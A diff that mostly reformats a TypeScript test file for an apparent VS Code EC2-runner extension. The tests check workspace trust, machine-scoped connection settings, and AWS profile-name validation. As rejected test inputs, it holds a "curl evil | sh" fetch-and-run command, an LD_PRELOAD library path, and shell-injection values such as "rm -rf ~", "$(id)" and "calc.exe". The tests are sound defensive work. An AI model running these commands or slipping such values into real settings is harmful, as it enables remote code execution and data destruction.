@@ -9,7 +9,12 @@ import path from 'node:path';
 import { isValidProfileName, listProfiles, missingProfileMessage } from '../../src/core/profiles';
 import { Connection, type StateStore } from '../../src/extension/connection';
 import { ssoLoginTerminal } from '../../src/extension/errorInfo';
-import { RESTRICTED_SETTING_KEYS, SETTING_KEYS, trustedValue, type ExtensionSettings } from '../../src/extension/settings';
+import {
+  RESTRICTED_SETTING_KEYS,
+  SETTING_KEYS,
+  trustedValue,
+  type ExtensionSettings,
+} from '../../src/extension/settings';
 
 const root = path.resolve(__dirname, '..', '..', '..');
 const pkg = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));
@@ -51,8 +56,22 @@ describe('workspace trust', () => {
   test('the manifest restricts exactly the settings that pick credentials, endpoint, bucket or what runs', () => {
     const declared = pkg.capabilities.untrustedWorkspaces;
     assert.equal(declared.supported, 'limited');
-    assert.deepEqual([...declared.restrictedConfigurations].sort(), RESTRICTED_SETTING_KEYS.map((k) => `ec2Runner.${k}`).sort());
-    for (const key of ['profile', 'region', 'endpointUrl', 'bucket', 'keyPrefix', 'interpreter', 'env', 'workingDirectory', 'venvRoot', 'transferMode'] as const) {
+    assert.deepEqual(
+      [...declared.restrictedConfigurations].sort(),
+      RESTRICTED_SETTING_KEYS.map((k) => `ec2Runner.${k}`).sort(),
+    );
+    for (const key of [
+      'profile',
+      'region',
+      'endpointUrl',
+      'bucket',
+      'keyPrefix',
+      'interpreter',
+      'env',
+      'workingDirectory',
+      'venvRoot',
+      'transferMode',
+    ] as const) {
       assert.ok(RESTRICTED_SETTING_KEYS.includes(key), `${key} is restricted`);
     }
     for (const key of RESTRICTED_SETTING_KEYS) assert.ok(SETTING_KEYS.includes(key), `${key} is a setting`);
@@ -63,18 +82,30 @@ describe('workspace trust', () => {
   test('connection settings are machine-scoped: the endpoint never comes from a workspace', () => {
     const p = pkg.contributes.configuration.properties;
     assert.equal(p['ec2Runner.endpointUrl'].scope, 'machine');
-    for (const key of ['profile', 'region', 'bucket', 'kmsKeyId', 'keyPrefix']) assert.equal(p[`ec2Runner.${key}`].scope, 'machine-overridable', key);
+    for (const key of ['profile', 'region', 'bucket', 'kmsKeyId', 'keyPrefix'])
+      assert.equal(p[`ec2Runner.${key}`].scope, 'machine-overridable', key);
     assert.deepEqual(pkg.extensionKind, ['workspace']);
   });
 
   test('in an untrusted workspace a restricted setting is the user value or the default, never the workspace value', () => {
     const hostile = { defaultValue: '', globalValue: undefined, workspaceValue: "sh -c 'curl evil | sh'" };
     assert.equal(trustedValue('interpreter', hostile, hostile.workspaceValue, false), '');
-    assert.equal(trustedValue('interpreter', { ...hostile, globalValue: 'python3 -u' }, hostile.workspaceValue, false), 'python3 -u');
-    assert.equal(trustedValue('interpreter', hostile, hostile.workspaceValue, true), hostile.workspaceValue, 'trusted: the workspace decides');
+    assert.equal(
+      trustedValue('interpreter', { ...hostile, globalValue: 'python3 -u' }, hostile.workspaceValue, false),
+      'python3 -u',
+    );
+    assert.equal(
+      trustedValue('interpreter', hostile, hostile.workspaceValue, true),
+      hostile.workspaceValue,
+      'trusted: the workspace decides',
+    );
     const folder = { defaultValue: {}, workspaceFolderValue: { LD_PRELOAD: '/tmp/x.so' } };
     assert.deepEqual(trustedValue('env', folder, folder.workspaceFolderValue, false), {});
-    assert.equal(trustedValue('timeoutSeconds', { defaultValue: 3600, workspaceValue: 5 }, 5, false), 5, 'unrestricted settings keep the workspace value');
+    assert.equal(
+      trustedValue('timeoutSeconds', { defaultValue: 3600, workspaceValue: 5 }, 5, false),
+      5,
+      'unrestricted settings keep the workspace value',
+    );
   });
 });
 
@@ -93,7 +124,11 @@ describe('profile and region choice, SSO terminal, sandbox override', () => {
     assert.equal(applied.region, 'eu-central-1');
     assert.equal(connection.engineSettings(settings()).profile, 'dev');
     await connection.choose({ profile: '', region: '' });
-    assert.equal(connection.apply(settings({ profile: 'from-settings' })).profile, '', '"from the environment" is a choice too');
+    assert.equal(
+      connection.apply(settings({ profile: 'from-settings' })).profile,
+      '',
+      '"from the environment" is a choice too',
+    );
     await assert.rejects(connection.choose({ profile: 'x; calc.exe', region: '' }), /not a valid AWS profile name/);
     state.values.set('ec2Runner.profileRegion', { profile: '$(touch /tmp/p)', region: '' });
     assert.equal(connection.choice, undefined, 'a tampered stored name is ignored');
@@ -103,11 +138,27 @@ describe('profile and region choice, SSO terminal, sandbox override', () => {
     const state = new MemoryState();
     const connection = new Connection(state);
     await connection.choose({ profile: 'prod', region: 'eu-west-1' });
-    connection.setSandbox({ endpointUrl: 'http://127.0.0.1:1234', region: 'us-west-2', bucket: 'sb', credentials: { accessKeyId: 'AKIDSANDBOX', secretAccessKey: 's' } });
+    connection.setSandbox({
+      endpointUrl: 'http://127.0.0.1:1234',
+      region: 'us-west-2',
+      bucket: 'sb',
+      credentials: { accessKeyId: 'AKIDSANDBOX', secretAccessKey: 's' },
+    });
     const engine = connection.engineSettings(settings({ endpointUrl: 'https://elsewhere.invalid', bucket: 'mine' }));
-    assert.deepEqual(engine, { profile: undefined, region: 'us-west-2', endpointUrl: 'http://127.0.0.1:1234', bucket: 'sb', keyPrefix: 'ec2-runner/', credentials: { accessKeyId: 'AKIDSANDBOX', secretAccessKey: 's' } });
+    assert.deepEqual(engine, {
+      profile: undefined,
+      region: 'us-west-2',
+      endpointUrl: 'http://127.0.0.1:1234',
+      bucket: 'sb',
+      keyPrefix: 'ec2-runner/',
+      credentials: { accessKeyId: 'AKIDSANDBOX', secretAccessKey: 's' },
+    });
     connection.setSandbox(undefined);
-    assert.equal(connection.engineSettings(settings()).profile, 'prod', 'stopping the sandbox returns to the previous choice');
+    assert.equal(
+      connection.engineSettings(settings()).profile,
+      'prod',
+      'stopping the sandbox returns to the previous choice',
+    );
     assert.equal(connection.engineSettings(settings()).credentials, undefined);
     assert.deepEqual([...state.values.keys()], ['ec2Runner.profileRegion'], 'nothing of the sandbox was stored');
   });
@@ -115,17 +166,30 @@ describe('profile and region choice, SSO terminal, sandbox override', () => {
   test('the SSO terminal gets the profile in its environment, never as typed text; odd names are refused', () => {
     assert.deepEqual(ssoLoginTerminal('dev-admin'), { env: { AWS_PROFILE: 'dev-admin' }, text: 'aws sso login' });
     assert.deepEqual(ssoLoginTerminal(undefined), { env: {}, text: 'aws sso login' });
-    for (const hostile of ['x"; calc; "', "a' ; rm -rf ~ ; '", 'a & whoami', 'a`id`', '$(id)', 'a\nwhoami', 'two words', '']) {
+    for (const hostile of [
+      'x"; calc; "',
+      "a' ; rm -rf ~ ; '",
+      'a & whoami',
+      'a`id`',
+      '$(id)',
+      'a\nwhoami',
+      'two words',
+      '',
+    ]) {
       if (hostile) assert.equal(ssoLoginTerminal(hostile), undefined, JSON.stringify(hostile));
       assert.equal(isValidProfileName(hostile), false, JSON.stringify(hostile));
     }
-    for (const fine of ['default', 'dev', 'corp.admin@123', 'team/ci', 'a_b-c+d:e']) assert.ok(isValidProfileName(fine), fine);
+    for (const fine of ['default', 'dev', 'corp.admin@123', 'team/ci', 'a_b-c+d:e'])
+      assert.ok(isValidProfileName(fine), fine);
   });
 
   test('a missing profile is named, with the files read and the profiles found there', () => {
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ec2-runner-profiles-'));
     try {
-      const env = { AWS_CONFIG_FILE: path.join(dir, 'config'), AWS_SHARED_CREDENTIALS_FILE: path.join(dir, 'credentials') };
+      const env = {
+        AWS_CONFIG_FILE: path.join(dir, 'config'),
+        AWS_SHARED_CREDENTIALS_FILE: path.join(dir, 'credentials'),
+      };
       fs.writeFileSync(env.AWS_CONFIG_FILE, '[default]\nregion = eu-west-1\n[profile dev]\n');
       assert.deepEqual(listProfiles(env), ['default', 'dev']);
       const message = missingProfileMessage('nosuch', env);
